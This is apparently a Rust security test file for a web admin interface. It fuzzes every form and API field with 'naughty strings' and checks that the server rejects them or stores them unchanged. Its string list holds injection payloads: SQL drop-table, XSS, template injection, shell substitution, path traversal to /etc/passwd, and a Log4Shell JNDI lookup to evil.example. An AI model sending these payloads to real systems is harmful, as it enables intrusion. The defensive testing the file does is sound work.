//! Strange text in every field of every function: refused or kept as it is, and never an error of ours. Case R18 of
//! the security table; the kinds of text are those of the "big list of naughty strings".

use std::collections::BTreeSet;

use coronet_tests::client::Client;
use coronet_tests::on_both_databases;
use coronet_tests::operator::{is_signed_in, set_up};
use coronet_tests::page::{Field, Form};
use coronet_tests::store::Kind;
use coronet_tests::story::{CAROL, FunRun, OLD_PASSWORD};
use serde_json::{Value, json};

/// One of each kind.
const STRANGE: [&str; 24] = [
    "\0",
    "nul\0inside",
    "\u{feff}bom",
    "\u{202e}right to left",
    "\u{200b}\u{200d}\u{2060}",
    "\u{7f}\u{1b}[31mred\u{7}",
    "line\r\nBcc: eve@example.com",
    "\u{2028}\u{2029}\u{85}",
    "\u{ffff}\u{fffe}\u{10ffff}",
    "Z\u{351}\u{36b}\u{343}a\u{334}\u{335}\u{336}lgo",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "' OR 1=1; DROP TABLE users; --",
    "\\' \\\" \\0 \\u0000 %00 %ff",
    "<script>alert(1)</script>\"><img src=x onerror=alert(1)>",
    "{{7*7}}{* k *}{% os.exit() %}{(a.tpl)}",
    "${jndi:ldap://evil.example/a} $(id) `id` %s%n%x",
    "../../../../etc/passwd",
    "/dev/zero",
    "-9223372036854775808",
    "1e309",
    "NaN",
    "null",
    "[[[[[[[[{\"a\":{\"$gt\":\"\"}}]]]]]]]]",
    "ﬃ İıſK ß ẞ ＡＢＣ ᾳ ǆ",
];

/// Where the links of a page lead within the webmin, without their queries.
fn links(page: &str) -> BTreeSet<String> {
    let links = page.split("href=\"").skip(1);
    let paths = links.filter_map(|rest| rest.split(['"', '?', '#']).next());
    paths
        .filter(|path| path.starts_with("/webmin/"))
        .map(str::to_owned)
        .collect()
}

/// The forms of all functions, as the function explorer draws them for an admin.
async fn functions(admin: &Client) -> Vec<Form> {
    let mut paths = links(&admin.get("/webmin/functions").await.text());
    paths.retain(|path| path.starts_with("/webmin/function/"));
    let mut forms = Vec::new();
    for path in paths {
        let page = admin.get(&path).await.text();
        // What is closed to operators has no form.
        let drawn = Form::all(&page, &path)
            .into_iter()
            .find(|form| form.action == path);
        forms.extend(drawn.map(filled).map(agreed));
    }
    assert!(forms.len() > 40, "{forms:#?}");
    forms
}

/// As whoever has seen what a write will do, and agreed.
fn agreed(mut form: Form) -> Form {
    form.fields.push(Field {
        name: "confirmed".to_owned(),
        kind: "hidden".to_owned(),
        value: "yes".to_owned(),
    });
    form
}

/// All other forms an admin meets on a walk through the webmin.
async fn met_on_a_walk(admin: &Client) -> Vec<Form> {
    let mut seen = BTreeSet::new();
    let mut next = vec!["/webmin/".to_owned()];
    let mut forms: Vec<Form> = Vec::new();
    while let Some(path) = next.pop() {
        let known = path.starts_with("/webmin/function/") || path.starts_with("/webmin/assets/");
        if known || !seen.insert(path.clone()) {
            continue;
        }
        let page = admin.get(&path).await.text();
        next.extend(links(&page));
        for form in Form::all(&page, &path) {
            let new = !forms.iter().any(|known| known.action == form.action);
            // We want to stay who we are.
            let ours = ["/logout", "/operator/", "/session/", "/profile/"];
            if new && !ours.iter().any(|path| form.action.contains(path)) {
                forms.push(filled(form));
            }
        }
    }
    assert!(forms.len() > 15, "{forms:#?}");
    forms
}

/// The form with something that fits in every field, so that the strange one is looked at.
fn filled(mut form: Form) -> Form {
    for field in &mut form.fields {
        let name = field.name.rsplit('.').next().unwrap_or_default();
        let fits = match (field.kind.as_str(), name) {
            ("number", _) => "1",
            (_, "email" | "to" | "to_email" | "from_email" | "from") => CAROL,
            (_, "scope") => "Fun Run",
            (_, "file" | "tpl_name") => "password/email.tpl",
            (_, "path") => "templates/strange.tpl",
            (_, "password") => "a good password",
            ("text" | "password", _) => "x",
            _ => continue,
        };
        fits.clone_into(&mut field.value);
    }
    form
}

fn takes_text(kind: &str) -> bool {
    !["hidden", "submit", "button", "checkbox", "radio"].contains(&kind)
}

/// Sends the form, by POST and as a filter by GET, with strange text in one field after the other; returns what
/// was answered with an error of ours. Every `step`th kind of text is tried, another one in every field.
async fn fill_strangely(admin: &Client, form: &Form, step: usize) -> Vec<String> {
    let mut failed = Vec::new();
    let fields = form.fields.iter().filter(|field| takes_text(&field.kind));
    for (number, field) in fields.enumerate() {
        for text in STRANGE.iter().skip(number % step).step_by(step) {
            let strange = form.clone().fill(&field.name, text);
            let posted = admin.post_form(&strange.action, &strange.pairs()).await;
            let query = form_urlencoded::Serializer::new(String::new())
                .extend_pairs(strange.pairs())
                .finish();
            let path = strange.action.split('?').next().unwrap_or_default();
            let asked = admin.get(&format!("{path}?{query}")).await;
            let errors = [posted, asked]
                .map(|answer| answer.status.as_u16())
                .map(|status| status >= 500);
            if errors.contains(&true) {
                failed.push(format!("{} {} {text:?}", form.action, field.name));
            }
        }
    }
    failed
}

/// On PostgreSQL, which takes less than SQLite, when it is there.
#[tokio::test]
async fn r18_strange_text_in_any_field_of_a_function_is_no_error_of_ours() {
    nothing_strange_harms(Forms::Functions).await;
}

#[tokio::test]
async fn r18_strange_text_in_any_field_of_a_page_is_no_error_of_ours() {
    nothing_strange_harms(Forms::Pages).await;
}

/// Which forms are filled in.
enum Forms {
    Functions,
    Pages,
}

async fn nothing_strange_harms(forms: Forms) {
    let mut story = match FunRun::start_on(Kind::Postgres).await {
        Some(story) => story,
        None => FunRun::start().await,
    };
    let admin = set_up(&story.server).await;
    story.reset_link(1).await;
    let mut failed = Vec::new();
    let (forms, rounds) = match forms {
        Forms::Functions => (functions(&admin).await, 2),
        Forms::Pages => (met_on_a_walk(&admin).await, 6),
    };
    for form in forms {
        failed.extend(fill_strangely(&admin, &form, rounds).await);
    }
    assert!(is_signed_in(&admin).await, "it was an admin who did all this");
    assert!(failed.is_empty(), "{failed:#?}");
    // Carol's password was guessed at often enough to slow everybody down; a server that starts anew does not know.
    story.server.kill().await;
    story.server.restart().await;
    // Her form is one of those that were filled in, and sent with what fits.
    let carol = json!({"user_id": story.carol});
    let carol = story.server.operate("users.get", carol).await;
    let username = carol["username"].as_str().unwrap_or_default();
    assert!(
        story.can_log_in(username, OLD_PASSWORD).await,
        "nothing was harmed"
    );
}

on_both_databases! {
    /// Names, such as that of a group, are normalised, since they are compared; other text is not touched.
    async fn r18_strange_text_is_refused_or_comes_back_as_it_was(kind: Kind) {
        let Some(story) = FunRun::start_on(kind).await else { return };
        let (mut kept, mut refused) = (0, 0);
        for text in STRANGE {
            for update in [json!({"extra": {"note": text}}), json!({"extra": {text: "note"}})] {
                let parameters = json!({"user_id": story.carol, "update_params": update});
                let answer = story.try_call("users.update", parameters).await;
                if answer.status == 200 {
                    kept += 1;
                    let user = story.call("users.get", json!({"user_id": story.carol})).await;
                    assert!(contains(&user, &update), "{update} became {user}");
                } else {
                    refused += 1;
                    assert_eq!(answer.status, 400, "{update}: {}", answer.text());
                }
            }
        }
        assert!(kept > 30 && refused > 0, "{kept} kept, {refused} refused");
    }
}

/// Whether every field of `part` is in `whole`, with the same value.
fn contains(whole: &Value, part: &Value) -> bool {
    match (whole, part) {
        (Value::Object(whole), Value::Object(part)) => part
            .iter()
            .all(|(name, value)| whole.get(name).is_some_and(|held| contains(held, value))),
        _ => whole == part,
    }
}

/// What is not UTF-8 cannot be kept as it is, wherever it stands.
#[tokio::test]
async fn r18_what_is_not_utf8_is_refused() {
    let story = FunRun::start().await;
    for bytes in [
        &b"\xff\xfe"[..],
        b"\xc0\xaf",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"\xe2\x82",
    ] {
        let body = [b"{\"user_id\": \"", bytes, b"\"}"].concat();
        let answer = story.server.call_raw(&story.token, "users.get", body).await;
        assert_eq!(answer.status, 400, "{bytes:?}: {}", answer.text());
        let client = story.server.client();
        for path in ["/_forgotpassword?scope=Fun%20Run", "/webmin/login"] {
            let request = client
                .request(hyper::Method::POST, path)
                .header("content-type", "application/x-www-form-urlencoded")
                .header("origin", format!("http://{}", story.server.address_of(path)));
            let answer = client.send(request, [b"email=a&name=", bytes].concat()).await;
            assert_eq!(answer.status, 400, "{path} {bytes:?}: {}", answer.text());
        }
    }
}

/// A lone surrogate can be written in JSON and is no text.
#[tokio::test]
async fn r18_a_lone_surrogate_is_refused() {
    let story = FunRun::start().await;
    for escaped in ["\\ud800", "\\udfff\\ud800", "\\u00"] {
        let body = format!("{{\"user_id\": \"{escaped}\"}}");
        let answer = story.server.call_raw(&story.token, "users.get", body).await;
        assert_eq!(answer.status, 400, "{escaped}: {}", answer.text());
        assert!(answer.json()["code"].is_i64(), "{}", answer.text());
    }
}
